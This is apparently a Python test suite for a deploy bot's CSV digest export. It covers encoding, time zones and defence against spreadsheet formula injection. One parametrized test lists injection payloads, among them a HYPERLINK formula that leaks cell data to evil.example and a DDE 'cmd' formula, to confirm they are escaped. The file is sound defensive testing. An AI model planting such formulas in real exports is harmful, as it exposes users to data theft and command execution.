from __future__ import annotations

import csv
from dataclasses import replace
from datetime import timedelta
from io import StringIO
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.domain.actor import CiIdentity, Operator
from bot.domain.audit.history import Word
from bot.domain.deploy.deploy import Status
from bot.domain.deploy.plan import Base, JobState
from bot.domain.digest.csv import csv_of
from tests.builders import BOB, SAM, an_entry
from tests.clocks import NOON

AMSTERDAM, ST_JOHNS = ZoneInfo("Europe/Amsterdam"), ZoneInfo("America/St_Johns")
FORMULAS = "=+-@\t\r＝＋－＠"
HEADER = (
    "deploy,service,environment,from,to,outcome,state,asked by,asked at,approved by,approved at,dispatched at,"
    "ended at,seconds to approve,seconds to succeed,reason,detail,revision,resolved by,resolved as,landed late at"
)


def read_back(written: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(StringIO(written.decode("utf-8-sig"), newline=""), strict=True))


def row_of(zone: ZoneInfo = AMSTERDAM, /, **changes) -> dict[str, str]:
    (row,) = read_back(csv_of([an_entry(**changes)], zone))
    return row


def test_it_is_utf_8_with_a_mark_and_lines_that_end_as_the_rfc_says():
    written = csv_of([], AMSTERDAM)

    assert written == b"\xef\xbb\xbf" + HEADER.encode() + b"\r\n"


def test_a_row_says_everything_of_a_deploy_in_the_zone_of_the_digest():
    entry = an_entry(
        1042,
        status=Status.SUCCEEDED,
        reason="hotfix, for Nora",
        detail="Deployment completed",
        from_version="v1.4.1",
        approvers=(SAM.id, BOB.id),
        approved_at=NOON + timedelta(minutes=2, microseconds=999_999),
        dispatched_at=NOON + timedelta(minutes=3),
        to_approve=timedelta(minutes=2, microseconds=999_999),
        changed_at=NOON + timedelta(minutes=5),
    )
    lines = csv_of([entry], AMSTERDAM).decode("utf-8-sig").splitlines()

    assert lines[1] == (
        "D-1042,checkout,production,v1.4.1,v1.4.2,deployed,succeeded,U0ALICE001,2026-11-21T13:00:00+01:00,"
        '"U0SAM00001, U0BOB00001",2026-11-21T13:02:00+01:00,2026-11-21T13:03:00+01:00,2026-11-21T13:05:00+01:00,'
        '121,120,"hotfix, for Nora",Deployment completed,1,,,'
    )


def test_what_is_not_known_is_empty():
    row = row_of(ST_JOHNS)

    assert row["asked at"] == "2026-11-21T08:30:00-03:30"
    assert {name for name, cell in row.items() if not cell} == {
        *("from", "approved by", "approved at", "dispatched at", "ended at"),
        *(
            "seconds to approve",
            "seconds to succeed",
            "reason",
            "detail",
            "resolved by",
            "resolved as",
            "landed late at",
        ),
    }


def test_an_approval_of_a_plan_that_moved_is_no_approval():
    assert row_of(approved_at=NOON)["approved at"] == ""
    assert row_of(approved_at=NOON, approvers=(SAM.id,))["approved at"] == "2026-11-21T13:00:00+01:00"


def test_a_duration_of_a_clock_that_was_set_back_stays_a_number():
    assert row_of(to_approve=timedelta(seconds=-90))["seconds to approve"] == "-90"


@pytest.mark.parametrize(
    ("actor", "said"),
    [
        (CiIdentity("https://ci.example", "checkout", "U0ALICE001"), "ci:https://ci.example|checkout|U0ALICE001"),
        (Operator("root"), "operator:root"),
    ],
)
def test_who_is_no_person_in_slack_is_named_by_its_key(actor, said: str):
    assert row_of(requester=actor)["asked by"] == said


@pytest.mark.parametrize(
    "planted",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"click")',
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(1,2)",
        "\t=1",
        "\r=1",
        "＝1+1",
    ],
)
@pytest.mark.parametrize("column", ["service", "environment", "to", "from", "reason", "detail"])
def test_a_planted_formula_is_text(planted: str, column: str):
    field = {"to": "version", "from": "from_version"}.get(column, column)
    cell = row_of(**{field: planted})[column]

    assert cell.startswith("'")
    assert cell.replace("'", "") == planted.replace("'", "")


@pytest.mark.parametrize("separator", [";", "\t", "\n", "\r\n"])
def test_a_formula_is_none_either_where_another_separator_is_in_force(separator: str):
    text = f"harmless{separator}=1+1"

    assert row_of(reason=text)["reason"] == f"harmless{separator}'=1+1"


def test_ordinary_text_is_left_as_it_is():
    text = 'say "no", then; -1 replica (a=b), mail@example, größer — ☃\nsecond line'

    assert row_of(reason=text)["reason"] == text


@given(texts=st.lists(st.text(), min_size=4, max_size=4), numbers=st.lists(st.integers(1, 10**9), max_size=3))
def test_whatever_people_write_comes_back_in_as_many_rows_and_none_begins_as_a_formula(texts, numbers):
    service, version, reason, detail = texts
    entries = [an_entry(n, service=service, version=version, reason=reason, detail=detail) for n in numbers]
    rows = read_back(csv_of(entries, AMSTERDAM))

    assert [row["deploy"] for row in rows] == [f"D-{n}" for n in numbers]
    for row in rows:
        for column, text in {"service": service, "to": version, "reason": reason, "detail": detail}.items():
            assert row[column][:1] not in set(FORMULAS)
            assert row[column].replace("'", "") == text.replace("'", "")


@given(cells=st.lists(st.text(alphabet="=+-@\t\r\n;,\"'a＝"), min_size=1, max_size=3))
def test_no_program_finds_a_formula_whichever_separator_it_is_set_to(cells):
    written = csv_of([an_entry(reason=text) for text in cells], AMSTERDAM).decode("utf-8-sig")

    for separator in ",;\t":
        for row in csv.reader(StringIO(written, newline=""), delimiter=separator):
            assert not [cell for cell in row if cell[:1] and cell[:1] in FORMULAS]


def test_a_version_that_was_registered_outside_is_told_with_its_date():
    outside = Base(state=JobState.RUNNING, job_version=7, token="1a2b3c4d", at=NOON)
    ours = Base(state=JobState.RUNNING, job_version=7, deploy=11, version="=v1")

    assert row_of(base=outside)["from"] == "job version 7, registered outside Nomatron by token 1a2b3c4d, 2026-11-21"
    assert row_of(base=ours, from_version="=v1")["from"] == "'=v1"
    assert row_of(base=Base(state=JobState.ABSENT))["from"] == ""


def test_who_settled_it_and_as_what_is_there_if_that_stands():
    word = Word("landed 7", SAM, "seen")
    settled, overruled = row_of(word=word), row_of(word=replace(word, stands=False))

    assert (settled["resolved by"], settled["resolved as"]) == (SAM.id, "landed 7")
    assert (overruled["resolved by"], overruled["resolved as"]) == ("", "")
    assert row_of(landed_late_at=NOON)["landed late at"] == "2026-11-21T13:00:00+01:00"
